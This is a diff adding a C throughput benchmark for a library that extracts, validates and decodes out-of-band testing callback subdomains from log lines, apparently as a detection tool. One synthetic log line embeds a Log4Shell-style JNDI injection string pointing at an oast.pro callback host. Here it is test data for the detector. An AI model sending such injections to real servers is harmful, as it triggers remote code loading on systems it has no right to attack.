@@ -0,0 +1,430 @@
+// Extraction and decode throughput benchmark (no DuckDB required).
+//
+// Builds synthetic log corpora in memory and reports the throughput of
+// oast_count_matches for every scan kernel (also over the adversarial corpus
+// in bench/adversarial.txt, or the file given as argv[1]), of subdomain
+// validation + preamble decode for every SIMD kernel family available on
+// this machine, of extract-then-decode vs the fused kernel, of the
+// fixed-width vs generic validator for a non-default shape, and of each
+// validation level.
+// Build with -DOAST_BUILD_BENCHMARKS=ON and run ./oast_bench.
+
+#include "oast_base32.h"
+#include "oast_decode.h"
+#include "oast_encode.h"
+#include "oast_extract.h"
+#include "oast_simd.h"
+#include "oast_validate.h"
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#define LINE_COUNT 200000
+
+#ifndef OAST_BENCH_ADVERSARIAL
+#define OAST_BENCH_ADVERSARIAL "bench/adversarial.txt"
+#endif
+
+static const char *CLEAN_LINES[] = {
+    "10.1.2.3 - - [10/Oct/2025:13:55:36 +0000] \"GET /index.html HTTP/1.1\" "
+    "200 2326 \"https://www.example.com/start\" \"Mozilla/5.0\"",
+    "query: api.github.com IN A +E(0) (192.168.1.10) resolver=8.8.8.8",
+    "Oct 10 13:55:36 host sshd[4211]: Accepted publickey for ops from "
+    "172.16.0.4 port 51234 ssh2",
+    "{\"level\":\"info\",\"msg\":\"request done\",\"path\":\"/v1/items.json\","
+    "\"latency_ms\":12.5,\"host\":\"svc-01.internal.corp\"}",
+};
+
+static const char *OAST_LINE =
+    "GET /?q=${jndi:ldap://c58bduhe008dovpvhvugcfemp9yyyyyyn.oast.pro/a} "
+    "HTTP/1.1 from 203.0.113.9";
+
+typedef struct {
+  char *text;
+  size_t len;
+  size_t *offsets; // LINE_COUNT + 1 line starts
+} corpus_t;
+
+static void build_corpus(corpus_t *c, unsigned oast_per_mille) {
+  size_t cap = (size_t)LINE_COUNT * 160;
+  c->text = malloc(cap);
+  c->offsets = malloc(sizeof(size_t) * (LINE_COUNT + 1));
+  c->len = 0;
+
+  srand(42);
+  for (size_t i = 0; i < LINE_COUNT; i++) {
+    const char *line = (unsigned)(rand() % 1000) < oast_per_mille
+                           ? OAST_LINE
+                           : CLEAN_LINES[rand() % 4];
+    size_t n = strlen(line);
+    c->offsets[i] = c->len;
+    memcpy(c->text + c->len, line, n);
+    c->len += n;
+  }
+  c->offsets[LINE_COUNT] = c->len;
+}
+
+static double now_seconds(void) { return (double)clock() / CLOCKS_PER_SEC; }
+
+static void run(const char *label, const corpus_t *c) {
+  static const struct {
+    oast_scan_kernel_t kernel;
+    const char *name;
+  } kernels[] = {{OAST_SCAN_SCALAR, "scalar"},
+                 {OAST_SCAN_SSE2, "sse2"},
+                 {OAST_SCAN_AVX2, "avx2"}};
+
+  for (size_t k = 0; k < sizeof(kernels) / sizeof(kernels[0]); k++) {
+    if (!oast_extract_set_kernel(kernels[k].kernel)) {
+      continue;
+    }
+
+    size_t matches = 0;
+    int reps = 10;
+    double start = now_seconds();
+    for (int r = 0; r < reps; r++) {
+      for (size_t i = 0; i < LINE_COUNT; i++) {
+        matches += oast_count_matches(c->text + c->offsets[i],
+                                      c->offsets[i + 1] - c->offsets[i], 0);
+      }
+    }
+    double elapsed = now_seconds() - start;
+
+    printf("%-14s %-7s %8.1f MB/s  (%zu matches)\n", label, kernels[k].name,
+           (double)c->len * reps / elapsed / 1e6, matches / reps);
+  }
+}
+
+// Adversarial corpus (bench/adversarial.txt: long label runs between
+// suffixes, back-to-back suffixes, near misses, over-long labels). The file
+// is repeated into one text and scanned at 4 MB and 16 MB; per-byte cost
+// must not grow with the input (ratio ~1.0).
+static void run_adversarial(const char *path) {
+  FILE *f = fopen(path, "rb");
+  if (!f) {
+    printf("%-14s skipped (cannot open %s)\n", "adversarial", path);
+    return;
+  }
+  fseek(f, 0, SEEK_END);
+  size_t file_len = (size_t)ftell(f);
+  fseek(f, 0, SEEK_SET);
+
+  const size_t small = (size_t)4 << 20;
+  const size_t large = (size_t)16 << 20;
+  char *text = malloc(large);
+  if (file_len == 0 || fread(text, 1, file_len, f) != file_len) {
+    fclose(f);
+    free(text);
+    return;
+  }
+  fclose(f);
+  for (size_t n = file_len; n < large; n += file_len) {
+    memcpy(text + n, text, n + file_len <= large ? file_len : large - n);
+  }
+
+  static const struct {
+    oast_scan_kernel_t kernel;
+    const char *name;
+  } kernels[] = {{OAST_SCAN_SCALAR, "scalar"},
+                 {OAST_SCAN_SSE2, "sse2"},
+                 {OAST_SCAN_AVX2, "avx2"}};
+
+  for (size_t k = 0; k < sizeof(kernels) / sizeof(kernels[0]); k++) {
+    if (!oast_extract_set_kernel(kernels[k].kernel)) {
+      continue;
+    }
+
+    double start = now_seconds();
+    size_t small_matches = 0;
+    for (int r = 0; r < 4; r++) {
+      small_matches = oast_count_matches(text, small, 0);
+    }
+    double small_elapsed = (now_seconds() - start) / 4;
+
+    start = now_seconds();
+    size_t large_matches = oast_count_matches(text, large, 0);
+    double large_elapsed = now_seconds() - start;
+
+    printf("%-14s %-7s %8.1f MB/s  (4 MB: %.1f MB/s, ratio %.2f, %zu/%zu "
+           "matches)\n",
+           "adversarial", kernels[k].name, (double)large / large_elapsed / 1e6,
+           (double)small / small_elapsed / 1e6,
+           (large_elapsed / large) / (small_elapsed / small), small_matches,
+           large_matches);
+  }
+
+  free(text);
+}
+
+// Validate + decode a batch of subdomains (one in eight invalid)
+static void run_decode(void) {
+  enum { DOMAINS = 4096, DOMAIN_LEN = 33 };
+  static const oast_kernel_level_t levels[] = {
+      OAST_KERNEL_SCALAR, OAST_KERNEL_SSE41, OAST_KERNEL_AVX2};
+
+  char *domains = malloc((size_t)DOMAINS * DOMAIN_LEN);
+  srand(7);
+  for (size_t i = 0; i < DOMAINS; i++) {
+    char *d = domains + i * DOMAIN_LEN;
+    for (int j = 0; j < 20; j++) {
+      d[j] = BASE32HEX_ALPHABET[rand() % 32];
+    }
+    for (int j = 20; j < DOMAIN_LEN; j++) {
+      d[j] = ZBASE32_ALPHABET[rand() % 32];
+    }
+    if (i % 8 == 0) {
+      d[rand() % DOMAIN_LEN] = '!';
+    }
+  }
+
+  for (size_t k = 0; k < sizeof(levels) / sizeof(levels[0]); k++) {
+    if (!oast_simd_set_level(levels[k])) {
+      continue;
+    }
+
+    uint64_t sink = 0;
+    int reps = 2000;
+    double start = now_seconds();
+    for (int r = 0; r < reps; r++) {
+      for (size_t i = 0; i < DOMAINS; i++) {
+        const char *d = domains + i * DOMAIN_LEN;
+        uint64_t hi;
+        uint32_t lo;
+        if (oast_is_valid_subdomain(d, DOMAIN_LEN) &&
+            base32hex_decode_preamble(d, &hi, &lo)) {
+          sink += hi ^ lo;
+        }
+      }
+    }
+    double elapsed = now_seconds() - start;
+
+    printf("%-14s %-7s %8.1f M/s   (checksum %llx)\n", "decode",
+           oast_simd_level_name(levels[k]),
+           (double)DOMAINS * reps / elapsed / 1e6, (unsigned long long)sink);
+  }
+
+  // Row-at-a-time view decode vs the columnar batch API (active kernels)
+  oast_simd_init();
+  const char **ptrs = malloc(sizeof(*ptrs) * DOMAINS);
+  size_t *lens = malloc(sizeof(*lens) * DOMAINS);
+  int64_t *ts = malloc(sizeof(*ts) * DOMAINS);
+  int32_t *counter = malloc(sizeof(*counter) * DOMAINS);
+  for (size_t i = 0; i < DOMAINS; i++) {
+    ptrs[i] = domains + i * DOMAIN_LEN;
+    lens[i] = DOMAIN_LEN;
+  }
+
+  int reps = 2000;
+  int64_t sink = 0;
+  double start = now_seconds();
+  for (int r = 0; r < reps; r++) {
+    for (size_t i = 0; i < DOMAINS; i++) {
+      oast_decode_view_t view;
+      oast_decode_view(ptrs[i], lens[i], &view);
+      ts[i] = oast_xid_timestamp(&view.xid);
+      counter[i] = (int32_t)oast_xid_counter(&view.xid);
+    }
+    sink += ts[r % DOMAINS] + counter[r % DOMAINS];
+  }
+  double row_elapsed = now_seconds() - start;
+
+  oast_decode_columns_t cols = {0};
+  cols.ts = ts;
+  cols.counter = counter;
+  start = now_seconds();
+  for (int r = 0; r < reps; r++) {
+    oast_decode_batch(ptrs, lens, DOMAINS, &cols);
+    sink += ts[r % DOMAINS] + counter[r % DOMAINS];
+  }
+  double batch_elapsed = now_seconds() - start;
+
+  printf("%-14s %-7s %8.1f M/s\n", "decode rows", "view",
+         (double)DOMAINS * reps / row_elapsed / 1e6);
+  printf("%-14s %-7s %8.1f M/s   (checksum %llx)\n", "decode rows", "batch",
+         (double)DOMAINS * reps / batch_elapsed / 1e6,
+         (unsigned long long)sink);
+
+  free(ptrs);
+  free(lens);
+  free(ts);
+  free(counter);
+  free(domains);
+}
+
+// Extract then decode the spans (two passes over each match) vs the fused
+// kernel that decodes while extracting, over a corpus where every line
+// holds a match
+static void run_fused(const corpus_t *c) {
+  oast_span_arena_t arena;
+  const char *ptrs[OAST_SPAN_ARENA_INLINE];
+  size_t lens[OAST_SPAN_ARENA_INLINE];
+  uint64_t hi[OAST_SPAN_ARENA_INLINE];
+  uint32_t lo[OAST_SPAN_ARENA_INLINE];
+  int64_t ts[OAST_SPAN_ARENA_INLINE];
+  int32_t counter[OAST_SPAN_ARENA_INLINE];
+  oast_decode_columns_t cols = {0};
+  cols.ts = ts;
+  cols.counter = counter;
+
+  for (int fused = 0; fused < 2; fused++) {
+    if (fused) {
+      oast_span_arena_init_decoding(&arena);
+    } else {
+      oast_span_arena_init(&arena);
+    }
+
+    int64_t sink = 0;
+    int reps = 10;
+    double start = now_seconds();
+    for (int r = 0; r < reps; r++) {
+      for (size_t i = 0; i < LINE_COUNT; i++) {
+        const char *line = c->text + c->offsets[i];
+        size_t n = 0;
+        oast_span_arena_reset(&arena);
+        oast_extract_spans(line, c->offsets[i + 1] - c->offsets[i],
+                           OAST_SHAPE_DEFAULT, &arena, &n);
+        for (size_t j = 0; j < n; j++) {
+          if (fused) {
+            hi[j] = arena.xids[j].hi;
+            lo[j] = arena.xids[j].lo;
+          } else {
+            ptrs[j] = line + arena.spans[j].start;
+            lens[j] = arena.spans[j].len;
+          }
+        }
+        if (fused) {
+          oast_decode_xid_columns(hi, lo, n, &cols);
+        } else {
+          oast_decode_batch(ptrs, lens, n, &cols);
+        }
+        sink += n ? ts[0] + counter[n - 1] : 0;
+      }
+    }
+    double elapsed = now_seconds() - start;
+
+    printf("%-14s %-7s %8.1f M/s   (checksum %llx)\n", "extract+decode",
+           fused ? "fused" : "2-pass",
+           (double)LINE_COUNT * reps / elapsed / 1e6, (unsigned long long)sink);
+    oast_span_arena_free(&arena);
+  }
+}
+
+// Fixed-width vs generic validator for a non-default shape (cid 16, nonce 13)
+static void run_shapes(void) {
+  enum { DOMAINS = 4096, CID = 16, NONCE = 13, DOMAIN_LEN = CID + NONCE };
+  const oast_shape_t shape = {CID, NONCE};
+
+  char *domains = malloc((size_t)DOMAINS * DOMAIN_LEN);
+  srand(11);
+  for (size_t i = 0; i < DOMAINS; i++) {
+    char *d = domains + i * DOMAIN_LEN;
+    for (int j = 0; j < CID; j++) {
+      d[j] = BASE32HEX_ALPHABET[rand() % 32];
+    }
+    for (int j = CID; j < DOMAIN_LEN; j++) {
+      d[j] = ZBASE32_ALPHABET[rand() % 32];
+    }
+    if (i % 8 == 0) {
+      d[rand() % DOMAIN_LEN] = '!';
+    }
+  }
+
+  struct {
+    const char *name;
+    oast_subdomain_fn fn;
+  } kernels[] = {{"fixed", oast_subdomain_kernel(shape)},
+                 {"generic", oast_is_valid_subdomain_shape}};
+
+  for (size_t k = 0; k < sizeof(kernels) / sizeof(kernels[0]); k++) {
+    size_t valid = 0;
+    int reps = 2000;
+    double start = now_seconds();
+    for (int r = 0; r < reps; r++) {
+      for (size_t i = 0; i < DOMAINS; i++) {
+        valid += kernels[k].fn(domains + i * DOMAIN_LEN, DOMAIN_LEN, shape);
+      }
+    }
+    double elapsed = now_seconds() - start;
+
+    printf("%-14s %-7s %8.1f M/s   (%zu valid)\n", "validate 16/13",
+           kernels[k].name, (double)DOMAINS * reps / elapsed / 1e6, valid);
+  }
+
+  free(domains);
+}
+
+// Validation levels over the same FQDNs (one in eight invalid)
+static void run_levels(void) {
+  enum { DOMAINS = 4096, DOMAIN_LEN = 42 }; // 33 + ".oast.pro"
+
+  char *domains = malloc((size_t)DOMAINS * DOMAIN_LEN);
+  srand(13);
+  for (size_t i = 0; i < DOMAINS; i++) {
+    char *d = domains + i * DOMAIN_LEN;
+    oast_encode_preamble(OAST_PLAUSIBLE_TS_MIN + (uint32_t)(rand() % 100000000),
+                         (uint32_t)rand(), (uint16_t)rand(),
+                         (uint32_t)rand() | 1, d);
+    for (int j = 20; j < 33; j++) {
+      d[j] = ZBASE32_ALPHABET[rand() % 32];
+    }
+    memcpy(d + 33, ".oast.pro", 9);
+    if (i % 8 == 0) {
+      d[rand() % 33] = '!';
+    }
+  }
+
+  oast_validate_ctx_t ctx;
+  oast_validate_ctx_init(&ctx, OAST_SHAPE_DEFAULT, (uint32_t)time(NULL));
+  static const char *names[OAST_LEVEL_COUNT] = {"shape", "strict",
+                                                "plausible"};
+
+  for (int level = 0; level < OAST_LEVEL_COUNT; level++) {
+    oast_level_fn fn = oast_level_kernel((oast_validate_level_t)level);
+    size_t valid = 0;
+    int reps = 1000;
+    double start = now_seconds();
+    for (int r = 0; r < reps; r++) {
+      for (size_t i = 0; i < DOMAINS; i++) {
+        valid += fn(domains + i * DOMAIN_LEN, DOMAIN_LEN, &ctx);
+      }
+    }
+    double elapsed = now_seconds() - start;
+
+    printf("%-14s %-9s %6.1f M/s   (%zu valid)\n", "validate level",
+           names[level], (double)DOMAINS * reps / elapsed / 1e6, valid);
+  }
+
+  free(domains);
+}
+
+int main(int argc, char **argv) {
+  if (!oast_extract_init()) {
+    fprintf(stderr, "oast_extract_init failed\n");
+    return 1;
+  }
+  oast_simd_init();
+  oast_kernel_level_t selected = oast_simd_get_level();
+
+  corpus_t clean, sparse, dense;
+  build_corpus(&clean, 0);
+  build_corpus(&sparse, 10);
+  build_corpus(&dense, 1000);
+
+  run("clean", &clean);
+  run("1% oast", &sparse);
+  run_adversarial(argc > 1 ? argv[1] : OAST_BENCH_ADVERSARIAL);
+  run_decode();
+  run_fused(&dense);
+  run_shapes();
+  run_levels();
+
+  oast_simd_set_level(selected);
+  free(clean.text);
+  free(clean.offsets);
+  free(sparse.text);
+  free(sparse.offsets);
+  free(dense.text);
+  free(dense.offsets);
+  return 0;
+}